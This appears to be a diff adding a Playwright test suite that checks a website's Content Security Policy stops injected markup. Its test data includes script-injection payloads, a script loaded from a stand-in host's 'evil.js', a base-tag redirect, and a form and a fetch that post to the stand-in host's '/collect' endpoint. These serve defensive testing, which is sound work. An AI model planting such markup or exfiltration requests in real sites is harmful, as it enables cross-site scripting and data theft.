@@ -1,0 +1,155 @@
+import type { Page } from 'playwright';
+import { describe, expect, test } from 'vitest';
+import { problemsOf, rewriting, usePages } from './fixture.ts';
+
+// What a hole in the site would let an attacker try, on a page that is shown. None of it may come to anything.
+const FOREIGN = 'https://elsewhere.example';
+const pages = usePages('fixture');
+
+/** Markup as it would come with a page into which somebody wrote. */
+const INJECTED = [
+  '<script>window.injected = true</script>',
+  `<script src="${FOREIGN}/evil.js"></script>`,
+  '<img src="/no-such-picture.png" alt="" onerror="window.injected = true">',
+  '<p id="styled" style="color: rgb(1, 2, 3)">A paragraph</p>',
+  '<style>#styled { background: rgb(4, 5, 6) }</style>',
+  `<base href="${FOREIGN}/">`,
+  `<iframe src="${FOREIGN}/frame"></iframe><object data="${FOREIGN}/object"></object>`,
+  `<img src="${FOREIGN}/picture.png" alt="">`,
+  `<form id="form" action="${FOREIGN}/collect" method="post"><input name="secret" value="1"></form>`,
+].join('');
+
+interface Opened {
+  page: Page;
+  violated(): Promise<string[]>;
+  foreign: string[];
+}
+
+/** Opens a page, with such markup where one is given, that notes which directives were
+ *  violated, and which requests leave the site. */
+async function openPage(path: string, markup = ''): Promise<Opened> {
+  const foreign: string[] = [];
+  const page = await pages.open(path, {
+    prepare: async (page) => {
+      await rewriting((html) => html.replace('<main', () => `${markup}<main`))(page);
+      // What the policy blocks never gets as far as this.
+      await page.route(`${FOREIGN}/**`, (route) => {
+        foreign.push(route.request().url());
+        return route.abort();
+      });
+      await page.addInitScript(() => {
+        const seen: string[] = [];
+        Object.assign(window, { violated: seen });
+        addEventListener('securitypolicyviolation', ({ effectiveDirective }) => seen.push(effectiveDirective));
+      });
+    },
+  });
+  const violated = () =>
+    page.evaluate(() => [...new Set((window as unknown as { violated: string[] }).violated)].sort());
+  return { page, violated, foreign };
+}
+
+test('markup that somebody wrote into a page runs, styles, loads and redirects nothing', async () => {
+  const { page, violated, foreign } = await openPage('/contact/', INJECTED);
+  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
+  const { color, backgroundColor } = await page.evaluate(() => {
+    const { color, backgroundColor } = getComputedStyle(document.querySelector('#styled')!);
+    return { color, backgroundColor };
+  });
+  expect(color).not.toBe('rgb(1, 2, 3)');
+  expect(backgroundColor).not.toBe('rgb(4, 5, 6)');
+  expect(new URL(await page.evaluate(() => document.baseURI)).origin).toBe(pages.origin);
+  expect(foreign).toEqual([]);
+  // What the other tests rely on: each violation is among the problems of a page.
+  for (const violation of ['script-src-elem by inline', `img-src by ${FOREIGN}`, 'style-src-attr by inline']) {
+    expect((await problemsOf(page)).join('\n')).toContain(`policy violated: ${violation}`);
+  }
+  expect(await violated()).toEqual(
+    expect.arrayContaining([
+      ...['base-uri', 'frame-src', 'object-src'],
+      ...['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'],
+    ]),
+  );
+});
+
+test('without the policy all of it would happen, and be recorded', async () => {
+  const page = await pages.open('/contact/', {
+    prepare: rewriting((html) =>
+      html
+        .replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')
+        .replace('<main', () => `<script>console.warn('a warning')</script>${INJECTED}<main`),
+    ),
+  });
+  expect(await page.evaluate(() => 'injected' in window)).toBe(true);
+  const problems = (await problemsOf(page)).join('\n');
+  for (const problem of ['foreign request', 'failed request']) {
+    expect(problems).toContain(`${problem}: ${FOREIGN}/picture.png`);
+  }
+  expect(problems).toContain('console: a warning');
+  expect(problems).toMatch(/404: .*no-such-picture/);
+});
+
+test('a form that somebody wrote into a page sends nothing', async () => {
+  const { page, violated, foreign } = await openPage('/contact/', INJECTED);
+  const before = page.url();
+  await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')!.submit());
+  await expect.poll(violated).toContain('form-action');
+  expect(page.url()).toBe(before);
+  expect(foreign).toEqual([]);
+});
+
+describe('a script that runs all the same', () => {
+  test.each([
+    ['cannot write markup', () => (document.body.innerHTML = '<img src=x>')],
+    ['cannot write a script', () => (document.createElement('script').text = 'window.injected = true')],
+    ['cannot make a policy of its own', () => (window as unknown as Types).trustedTypes.createPolicy('mine', {})],
+  ])('%s', async (_name, attempt) => {
+    const { page } = await openPage('/');
+    await expect(page.evaluate(attempt as () => void)).rejects.toThrow(/TrustedHTML|TrustedScript|Policy|unsafe-eval/);
+    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
+  });
+
+  test('cannot run a text', async () => {
+    const { page } = await openPage('/');
+    // What Playwright evaluates itself is exempt; what comes later is not.
+    const error = await page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          setTimeout(() => {
+            try {
+              resolve(new Function('return window.injected = true')());
+            } catch (error) {
+              resolve(String(error));
+            }
+          });
+        }),
+    );
+    expect(error).toMatch(/^EvalError/);
+    expect(await page.evaluate(() => 'injected' in window)).toBe(false);
+  });
+
+  test.each([
+    ['cannot send anything elsewhere', () => fetch('https://elsewhere.example/collect', { method: 'POST' })],
+    ['cannot even ask the site itself', () => fetch('/')],
+  ])('%s', async (_name, attempt) => {
+    const { page, violated, foreign } = await openPage('/');
+    await expect(page.evaluate(attempt as () => Promise<unknown>)).rejects.toThrow('Failed to fetch');
+    expect(await violated()).toEqual(['connect-src']);
+    expect(foreign).toEqual([]);
+  });
+
+  test('cannot load a picture or a font from elsewhere', async () => {
+    const { page, violated, foreign } = await openPage('/');
+    await page.evaluate((host) => {
+      new Image().src = `${host}/pixel.gif`;
+      document.fonts.add(new FontFace('Foreign', `url(${host}/font.woff2)`));
+      void document.fonts.load('16px Foreign').catch(() => {});
+    }, FOREIGN);
+    await expect.poll(violated).toEqual(['font-src', 'img-src']);
+    expect(foreign).toEqual([]);
+  });
+});
+
+interface Types {
+  trustedTypes: { createPolicy(name: string, rules: object): unknown };
+}
